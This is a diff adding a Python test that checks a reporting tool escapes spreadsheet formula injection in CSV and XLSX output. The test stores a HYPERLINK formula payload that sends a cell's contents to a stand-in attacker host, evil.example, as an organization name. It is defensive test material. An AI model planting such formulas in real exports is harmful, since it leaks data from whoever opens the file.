@@ -111,3 +111,33 @@ def test_policy_set_refuses_an_unknown_parameter(run) -> None:  # type: ignore[n
     )
     assert result.exit_code != 0
     assert "has no parameter 'colour'" in str(result.exception)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"click")'
+
+
+def test_a_formula_in_an_organization_name_comes_out_of_the_report_as_text(
+    run, engine: Engine, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
+    from sqlalchemy import select, update
+
+    from shared.models import Organization
+
+    with engine.begin() as conn:
+        code = conn.execute(select(Organization.code).order_by(Organization.code)).scalars().first()
+        conn.execute(update(Organization).where(Organization.code == code).values(name=HYPERLINK))
+    status, out, _ = run(
+        "report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--format", "csv"
+    )
+    assert status == 0
+    names = [row[1] for row in csv.reader(io.StringIO(out))]
+    assert f"'{HYPERLINK}" in names and HYPERLINK not in names
+    target = tmp_path / "report.xlsx"
+    status, _, _ = run(
+        "report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--format", "xlsx",
+        "--out", str(target),
+    )  # fmt: skip
+    assert status == 0
+    cells = [row[1] for row in load_workbook(target)["report"].iter_rows()]
+    [cell] = [c for c in cells if c.value == HYPERLINK]
+    assert cell.data_type == "s"
